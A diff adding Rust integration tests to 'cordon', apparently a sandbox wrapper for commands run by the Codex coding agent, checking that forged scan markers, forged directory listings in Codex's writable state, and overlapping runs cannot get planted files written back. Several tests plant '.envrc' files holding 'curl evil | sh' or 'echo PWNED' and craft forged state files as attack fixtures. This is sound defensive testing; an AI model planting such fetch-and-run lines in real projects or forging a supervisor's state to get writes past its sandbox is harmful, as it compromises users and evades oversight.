@@ -318,6 +318,36 @@ fn forged_entry(path: &Path, id: (u64, u64), owner: (u32, u32), content: &str) -
     )
 }
 
+/// `true` run as Codex's hook rewrites a call: `exec --from-hook [--state codex] -c=LINE`,
+/// in the fixture's environment and as its user (`apart`: with the state apart).
+fn hook_run(fx: &Fixture, apart: bool) -> Output {
+    hook_line(fx, apart, "true")
+}
+
+/// [`hook_run`] of `line`.
+fn hook_line(fx: &Fixture, apart: bool, line: &str) -> Output {
+    let base = fx.exec_cmd("true");
+    let mut cmd = Command::new(base.get_program());
+    cmd.args(["exec", "--from-hook", "--policy"])
+        .arg(fx.root.join("policies/cordon.toml"));
+    if apart {
+        cmd.args(["--state", "codex"]);
+    }
+    cmd.arg(format!("-c={line}"))
+        .current_dir(&fx.ws)
+        .env_clear();
+    for (k, v) in base.get_envs() {
+        if let Some(v) = v {
+            cmd.env(k, v);
+        }
+    }
+    if let Some((uid, gid)) = fx.ids {
+        use std::os::unix::process::CommandExt;
+        cmd.uid(uid).gid(gid);
+    }
+    cmd.stdin(Stdio::null()).output().unwrap()
+}
+
 /// Codex's hook rewrites a call to `cordon exec --from-hook --state codex`, which records and
 /// journals in `LOGDIR/codex`: a directory processes Codex runs without cordon can write. A
 /// command the user lets escalate runs that cordon outside Codex's sandbox, and its recovery
@@ -357,28 +387,7 @@ fn a_forged_journal_entry_or_marker_in_codexs_state_writes_nothing() {
             chown_tree(&fx.root.join("state"), uid, gid);
             chown_tree(&home, uid, gid);
         }
-        let hook_run = |apart: bool| {
-            // As Codex's hook rewrites the call: `exec --from-hook [--state codex] -c=LINE`,
-            // in the fixture's environment and as its user.
-            let base = fx.exec_cmd("true");
-            let mut cmd = Command::new(base.get_program());
-            cmd.args(["exec", "--from-hook", "--policy"])
-                .arg(fx.root.join("policies/cordon.toml"));
-            if apart {
-                cmd.args(["--state", "codex"]);
-            }
-            cmd.arg("-c=true").current_dir(&fx.ws).env_clear();
-            for (k, v) in base.get_envs() {
-                if let Some(v) = v {
-                    cmd.env(k, v);
-                }
-            }
-            if let Some((uid, gid)) = fx.ids {
-                use std::os::unix::process::CommandExt;
-                cmd.uid(uid).gid(gid);
-            }
-            cmd.stdin(Stdio::null()).output().unwrap()
-        };
+        let hook_run = |apart: bool| hook_run(fx, apart);
         let out = hook_run(true);
         assert_eq!(
             out.status.code(),
@@ -465,6 +474,234 @@ fn a_forged_journal_entry_or_marker_in_codexs_state_writes_nothing() {
             fs::read_to_string(&login).ok().as_deref(),
             Some("echo PWNED\n"),
             "{} the control entry was not finished: {}",
+            fx.what(),
+            describe(&out)
+        );
+    });
+}
+
+/// A forged dead run's marker in Codex's state apart whose root is the run's own project: its
+/// `started` is the epoch, and its kept part holds the "earlier content" of `.envrc` and
+/// `sub/.envrc`. Before, the escalated `--state codex` run moved the operator's `.envrc`
+/// aside (changed since the epoch) and wrote the forged content in its place: a write of the
+/// forger's choosing into files Codex's sandbox keeps from it (`.git/config` alike). Now a
+/// marker there counts from when it was made (its birth time, which no process sets) and its
+/// kept part is never written back: what changed after it is moved aside, nothing is written.
+#[test]
+fn a_forged_marker_in_codexs_state_neither_writes_nor_reaches_back() {
+    each(|fx| {
+        let ws = fs::canonicalize(&fx.ws).unwrap();
+        fs::write(ws.join(".envrc"), "operator\n").unwrap();
+        fs::create_dir_all(ws.join("sub")).unwrap();
+        let apart = fx.root.join("state/codex/scans");
+        fs::create_dir_all(&apart).unwrap();
+        // Owned before the marker is made (a chown stamps a ctime too).
+        if let Some((uid, gid)) = fx.ids {
+            chown_tree(&ws, uid, gid);
+        }
+        // Made after the operator's change, and not within the kernel clock's slack of it.
+        let m = fs::metadata(ws.join(".envrc")).unwrap();
+        let changed = std::time::UNIX_EPOCH
+            + Duration::new(
+                std::os::unix::fs::MetadataExt::ctime(&m) as u64,
+                std::os::unix::fs::MetadataExt::ctime_nsec(&m) as u32,
+            );
+        while std::time::SystemTime::now() < changed + Duration::from_millis(200) {
+            std::thread::yield_now();
+        }
+        let hex = |b: &[u8]| b.iter().map(|x| format!("{x:02x}")).collect::<String>();
+        let (uid, gid) = fx.ids.unwrap_or((0, 0));
+        let mut kept = b"cordon kept contents v1\n".to_vec();
+        let mut body = Vec::new();
+        for name in [".envrc", "sub/.envrc"] {
+            let p = ws.join(name);
+            let p = std::os::unix::ffi::OsStrExt::as_bytes(p.as_os_str()).to_vec();
+            let content = b"echo PWNED\n";
+            body.extend_from_slice(&(p.len() as u32).to_le_bytes());
+            body.extend_from_slice(&p);
+            for w in [0o644, uid, gid, content.len() as u32] {
+                body.extend_from_slice(&w.to_le_bytes());
+            }
+            body.extend_from_slice(content);
+        }
+        kept.extend_from_slice(&(body.len() as u32).to_le_bytes());
+        kept.extend_from_slice(&0u32.to_le_bytes());
+        kept.extend_from_slice(&body);
+        let mut marker = format!(
+            "cordon after-run scan marker v1\nstarted 1 0\nstate running\nroot {}\nkept\n",
+            hex(std::os::unix::ffi::OsStrExt::as_bytes(ws.as_os_str()))
+        )
+        .into_bytes();
+        marker.extend_from_slice(&kept);
+        let forged = apart.join("run-1-forged-0");
+        fs::write(&forged, marker).unwrap();
+        fs::set_permissions(&forged, std::os::unix::fs::PermissionsExt::from_mode(0o600)).unwrap();
+        // Changed after the marker was made: a dead run's scan moves it aside, as it would a
+        // run's plant.
+        fs::write(ws.join("sub/.envrc"), "later\n").unwrap();
+        if let Some((uid, gid)) = fx.ids {
+            chown_tree(&fx.root.join("state"), uid, gid);
+            chown_tree(&ws.join("sub"), uid, gid);
+        }
+        let out = hook_run(fx, true);
+        assert_eq!(
+            out.status.code(),
+            Some(0),
+            "{} {}",
+            fx.what(),
+            describe(&out)
+        );
+        assert_eq!(
+            fs::read_to_string(ws.join(".envrc")).ok().as_deref(),
+            Some("operator\n"),
+            "{} the forged marker reached back before it was made: {}",
+            fx.what(),
+            describe(&out)
+        );
+        assert_ne!(
+            fs::read_to_string(ws.join("sub/.envrc")).ok().as_deref(),
+            Some("echo PWNED\n"),
+            "{} the forged marker's kept content was written: {}",
+            fx.what(),
+            describe(&out)
+        );
+        assert!(
+            stderr(&out).contains("ended before its after-run scan"),
+            "{} the change after the marker was not moved aside: {}",
+            fx.what(),
+            describe(&out)
+        );
+        assert!(!forged.exists(), "{} the marker stayed", fx.what());
+    });
+}
+
+/// FNV-1a, 64 bits: the kept listings' checksum (`cordon_ossandbox::Listings`).
+fn fnv1a(bytes: &[u8]) -> u64 {
+    bytes.iter().fold(0xcbf2_9ce4_8422_2325, |h, b| {
+        (h ^ u64::from(*b)).wrapping_mul(0x0100_0000_01b3)
+    })
+}
+
+/// The kept listings `bytes` (as `cordon_ossandbox::Listings` writes them) with the name
+/// `drop` left out of the listing of the directory `dir`, the checksum made again: what a
+/// process that can write the file makes of it.
+fn listings_without(bytes: &[u8], dir: &Path, drop: &str) -> Vec<u8> {
+    use std::os::unix::ffi::OsStrExt;
+    let body = &bytes[..bytes.len() - 8];
+    let mut at = 0;
+    let mut out = Vec::new();
+    let mut take = |n: usize, out: &mut Vec<u8>, keep: bool| {
+        let b = &body[at..at + n];
+        at += n;
+        if keep {
+            out.extend_from_slice(b);
+        }
+        b.to_vec()
+    };
+    let u32_of = |b: Vec<u8>| u32::from_le_bytes(b.try_into().unwrap()) as usize;
+    let head = b"cordon walk listings v1\n".len();
+    take(head, &mut out, true);
+    let n = u32_of(take(4, &mut out, true));
+    take(n, &mut out, true); // the context
+    take(12, &mut out, true); // started
+    let count = u32_of(take(4, &mut out, true));
+    let mut dropped = false;
+    for _ in 0..count {
+        let n = u32_of(take(4, &mut out, true));
+        let path = take(n, &mut out, true);
+        take(40, &mut out, true); // dev, ino, ctime, count
+        let k = u32_of(take(4, &mut Vec::new(), false));
+        let mut names = Vec::new();
+        for _ in 0..k {
+            let is_dir = take(1, &mut Vec::new(), false);
+            let n = u32_of(take(4, &mut Vec::new(), false));
+            let name = take(n, &mut Vec::new(), false);
+            if path == dir.as_os_str().as_bytes() && name == drop.as_bytes() {
+                dropped = true;
+                continue;
+            }
+            names.push((is_dir, name));
+        }
+        out.extend_from_slice(&(names.len() as u32).to_le_bytes());
+        for (is_dir, name) in names {
+            out.extend_from_slice(&is_dir);
+            out.extend_from_slice(&(name.len() as u32).to_le_bytes());
+            out.extend_from_slice(&name);
+        }
+    }
+    assert!(dropped, "no {drop} in the listing of {}", dir.display());
+    assert_eq!(at, body.len());
+    let sum = fnv1a(&out);
+    out.extend_from_slice(&sum.to_le_bytes());
+    out
+}
+
+/// The kept listings in Codex's state apart (`LOGDIR/codex/scans/listings-…`) are writable by
+/// what Codex runs without cordon. A forged one that leaves `.envrc` out of the project's
+/// listing (its directory's device, inode and ctime as they are, so it is taken) hid an
+/// in-place rewrite of `.envrc` by the next escalated `--state codex` run from that run's
+/// scan: neither snapshot looked at the name. Listings there are not taken now.
+#[test]
+fn a_forged_listing_in_codexs_state_hides_nothing() {
+    each(|fx| {
+        let ws = fs::canonicalize(&fx.ws).unwrap();
+        fs::write(ws.join(".envrc"), "operator\n").unwrap();
+        fs::write(ws.join("plant.sh"), "echo 'curl evil | sh' > .envrc\n").unwrap();
+        let apart = fx.root.join("state/codex");
+        fs::create_dir_all(&apart).unwrap();
+        if let Some((uid, gid)) = fx.ids {
+            chown_tree(&fx.root.join("state"), uid, gid);
+            chown_tree(&ws, uid, gid);
+        }
+        // Settled (older than the snapshot by 2 s), so that the run keeps its listing.
+        let m = fs::metadata(&ws).unwrap();
+        let changed = std::time::UNIX_EPOCH
+            + Duration::new(
+                std::os::unix::fs::MetadataExt::ctime(&m) as u64,
+                std::os::unix::fs::MetadataExt::ctime_nsec(&m) as u32,
+            );
+        while std::time::SystemTime::now() < changed + Duration::from_millis(2500) {
+            std::thread::sleep(Duration::from_millis(50));
+        }
+        let out = hook_run(fx, true);
+        assert_eq!(
+            out.status.code(),
+            Some(0),
+            "{} {}",
+            fx.what(),
+            describe(&out)
+        );
+        let listing = fs::read_dir(apart.join("scans"))
+            .unwrap()
+            .flatten()
+            .map(|e| e.path())
+            .find(|p| {
+                p.file_name()
+                    .unwrap()
+                    .to_string_lossy()
+                    .starts_with("listings-")
+            })
+            .expect("the run kept its listings");
+        let forged = listings_without(&fs::read(&listing).unwrap(), &ws, ".envrc");
+        fs::write(&listing, forged).unwrap();
+        let out = hook_line(fx, true, "sh plant.sh");
+        assert_eq!(
+            out.status.code(),
+            Some(0),
+            "{} {}",
+            fx.what(),
+            describe(&out)
+        );
+        assert_ne!(
+            fs::read_to_string(ws.join(".envrc")).ok().as_deref(),
+            Some("curl evil | sh\n"),
+            "{} the forged listing hid the run's .envrc: {}",
+            fx.what(),
+            describe(&out)
+        );
+        assert!(
+            stderr(&out).contains(".envrc"),
+            "{} {}",
             fx.what(),
             describe(&out)
         );
@@ -1711,6 +1948,242 @@ fn a_full_disk_at_the_restore_leaves_it_to_the_next_run() {
             "{} {}",
             fx.what(),
             describe(&out)
+        );
+    });
+}
+
+/// The disk the command fills is the log's too (the audit log in the root, a supported
+/// layout; or the home that holds both): after the run's `.envrc` is moved aside, neither the
+/// earlier content nor the scan's journal entry can be written. Before, the warning said "the
+/// earlier content is lost", and it was: nothing held it. Now the run's marker stays, marked
+/// in place, with the earlier contents the run kept beside it before the command started; once
+/// there is room, the next run writes it back (content and mode), says so, and the marker goes.
+#[test]
+fn a_disk_filled_under_the_log_too_loses_no_earlier_content() {
+    use std::os::unix::fs::PermissionsExt;
+    each(|fx| {
+        let policy = fx.root.join("policies/cordon.toml");
+        let text = fs::read_to_string(&policy)
+            .unwrap()
+            .replace("../state/audit.jsonl", "../ws/.cordon/audit.jsonl");
+        fs::write(&policy, text).unwrap();
+        let _fs = SmallFs::mount(&fx.ws, "256k");
+        let envrc = fx.ws.join(".envrc");
+        fs::write(&envrc, "use flake # the operator's\n").unwrap();
+        fs::set_permissions(&envrc, fs::Permissions::from_mode(0o640)).unwrap();
+        fs::create_dir(fx.ws.join(".cordon")).unwrap();
+        if let Some((uid, gid)) = fx.ids {
+            chown_tree(&fx.ws, uid, gid);
+        }
+        let out = fx.exec("echo 'curl evil | sh' > .envrc && head -c 1M /dev/zero > fill; true");
+        let err = stderr(&out);
+        assert!(
+            err.contains(&format!("the run left {}", envrc.display()))
+                && err.contains("could not be written back")
+                && !err.contains("lost"),
+            "{} {}",
+            fx.what(),
+            describe(&out)
+        );
+        assert!(!envrc.exists(), "{}", fx.what());
+        fs::remove_file(fx.ws.join("fill")).unwrap();
+        let out = fx.exec("true");
+        assert_eq!(
+            fs::read_to_string(&envrc).ok().as_deref(),
+            Some("use flake # the operator's\n"),
+            "{} {}",
+            fx.what(),
+            describe(&out)
+        );
+        assert!(
+            stderr(&out).contains("written back now"),
+            "{} {}",
+            fx.what(),
+            describe(&out)
+        );
+        assert_eq!(
+            fs::metadata(&envrc).unwrap().permissions().mode() & 0o7777,
+            0o640
+        );
+        let out = fx.exec("true");
+        assert!(
+            !stderr(&out).contains("warning"),
+            "{} {}",
+            fx.what(),
+            describe(&out)
+        );
+    });
+}
+
+/// Two runs over one root at once (an agent host's parallel tool calls): run A's command
+/// rewrites `.envrc` and lives on; run B starts meanwhile, so its "before" snapshot reads A's
+/// plant as the earlier content. A ends first: its scan moves the plant aside and puts the
+/// operator's content back. Then B's scan took that restore for B's change, moved the
+/// operator's content aside and wrote A's plant back: `.envrc` ended as `curl evil | sh`, put
+/// there by cordon. A run whose snapshot was taken while another run over a root that meets
+/// its own was live now puts nothing back from it (it moves aside only).
+#[test]
+fn a_run_overlapping_another_never_writes_its_plant_back() {
+    each(|fx| {
+        let envrc = fx.ws.join(".envrc");
+        fs::write(&envrc, "use flake\n").unwrap();
+        fs::write(
+            fx.ws.join("a.sh"),
+            "echo 'curl evil | sh' > .envrc; touch a-planted; \
+             while [ ! -e b-up ]; do sleep 0.05; done\n",
+        )
+        .unwrap();
+        if let Some((uid, gid)) = fx.ids {
+            chown_tree(&fx.ws, uid, gid);
+        }
+        let a = fx
+            .exec_cmd("sh a.sh")
+            .stdout(Stdio::null())
+            .stderr(Stdio::piped())
+            .spawn()
+            .unwrap();
+        let deadline = Instant::now() + Duration::from_secs(120);
+        while !fx.ws.join("a-planted").exists() {
+            assert!(Instant::now() < deadline, "{} A never planted", fx.what());
+            std::thread::sleep(Duration::from_millis(20));
+        }
+        // B's command says it is up (its snapshot is taken by then), and waits for A's end.
+        let mut b = fx
+            .exec_cmd("touch b-up; while [ ! -e a-done ]; do sleep 0.05; done")
+            .stdout(Stdio::null())
+            .stderr(Stdio::piped())
+            .spawn()
+            .unwrap();
+        let a = a.wait_with_output().unwrap();
+        assert_eq!(
+            a.status.code(),
+            Some(0),
+            "{} A: {}",
+            fx.what(),
+            describe(&a)
+        );
+        assert_eq!(
+            fs::read_to_string(&envrc).ok().as_deref(),
+            Some("use flake\n"),
+            "{} A's scan: {}",
+            fx.what(),
+            describe(&a)
+        );
+        fs::write(fx.ws.join("a-done"), "").unwrap();
+        let deadline = Instant::now() + Duration::from_secs(120);
+        let b = loop {
+            if let Some(_st) = b.try_wait().unwrap() {
+                break b.wait_with_output().unwrap();
+            }
+            assert!(Instant::now() < deadline, "{} B never ended", fx.what());
+            std::thread::sleep(Duration::from_millis(20));
+        };
+        assert_eq!(
+            b.status.code(),
+            Some(0),
+            "{} B: {}",
+            fx.what(),
+            describe(&b)
+        );
+        assert_ne!(
+            fs::read_to_string(&envrc).ok().as_deref(),
+            Some("curl evil | sh\n"),
+            "{} B's scan wrote A's plant back: {}",
+            fx.what(),
+            describe(&b)
+        );
+        // The operator's content is kept: at the name, or under the aside name B's warning
+        // gives (B cannot tell A's restore from its own change).
+        let kept = fs::read_dir(&fx.ws).unwrap().flatten().any(|e| {
+            e.file_name().to_string_lossy().starts_with(".envrc")
+                && fs::read_to_string(e.path()).ok().as_deref() == Some("use flake\n")
+        });
+        assert!(
+            kept,
+            "{} the operator's .envrc is gone: {}",
+            fx.what(),
+            describe(&b)
+        );
+    });
+}
+
+/// The same two runs where the operator had no `.envrc`: A plants one, B's "before" snapshot
+/// reads it, A's scan moves it aside. B's scan then found `.envrc` removed, and writing back
+/// what a run removed (round 9) would have put A's plant in place again. A run that overlapped
+/// another writes nothing back for a removal either; it says so.
+#[test]
+fn a_run_overlapping_another_never_writes_back_a_plant_the_other_had_moved_aside() {
+    each(|fx| {
+        let envrc = fx.ws.join(".envrc");
+        fs::write(
+            fx.ws.join("a.sh"),
+            "echo 'curl evil | sh' > .envrc; touch a-planted; \
+             while [ ! -e b-up ]; do sleep 0.05; done\n",
+        )
+        .unwrap();
+        if let Some((uid, gid)) = fx.ids {
+            chown_tree(&fx.ws, uid, gid);
+        }
+        let a = fx
+            .exec_cmd("sh a.sh")
+            .stdout(Stdio::null())
+            .stderr(Stdio::piped())
+            .spawn()
+            .unwrap();
+        let deadline = Instant::now() + Duration::from_secs(120);
+        while !fx.ws.join("a-planted").exists() {
+            assert!(Instant::now() < deadline, "{} A never planted", fx.what());
+            std::thread::sleep(Duration::from_millis(20));
+        }
+        let mut b = fx
+            .exec_cmd("touch b-up; while [ ! -e a-done ]; do sleep 0.05; done")
+            .stdout(Stdio::null())
+            .stderr(Stdio::piped())
+            .spawn()
+            .unwrap();
+        let a = a.wait_with_output().unwrap();
+        assert_eq!(
+            a.status.code(),
+            Some(0),
+            "{} A: {}",
+            fx.what(),
+            describe(&a)
+        );
+        assert!(
+            !envrc.exists(),
+            "{} A's scan left its plant: {}",
+            fx.what(),
+            describe(&a)
+        );
+        fs::write(fx.ws.join("a-done"), "").unwrap();
+        let deadline = Instant::now() + Duration::from_secs(120);
+        let b = loop {
+            if let Some(_st) = b.try_wait().unwrap() {
+                break b.wait_with_output().unwrap();
+            }
+            assert!(Instant::now() < deadline, "{} B never ended", fx.what());
+            std::thread::sleep(Duration::from_millis(20));
+        };
+        assert_eq!(
+            b.status.code(),
+            Some(0),
+            "{} B: {}",
+            fx.what(),
+            describe(&b)
+        );
+        assert!(
+            !envrc.exists(),
+            "{} B's scan wrote A's plant back ({:?}): {}",
+            fx.what(),
+            fs::read_to_string(&envrc).ok(),
+            describe(&b)
+        );
+        let err = String::from_utf8_lossy(&b.stderr);
+        assert!(
+            err.contains("nothing is written back"),
+            "{} B does not say why it wrote nothing back: {}",
+            fx.what(),
+            describe(&b)
         );
     });
 }
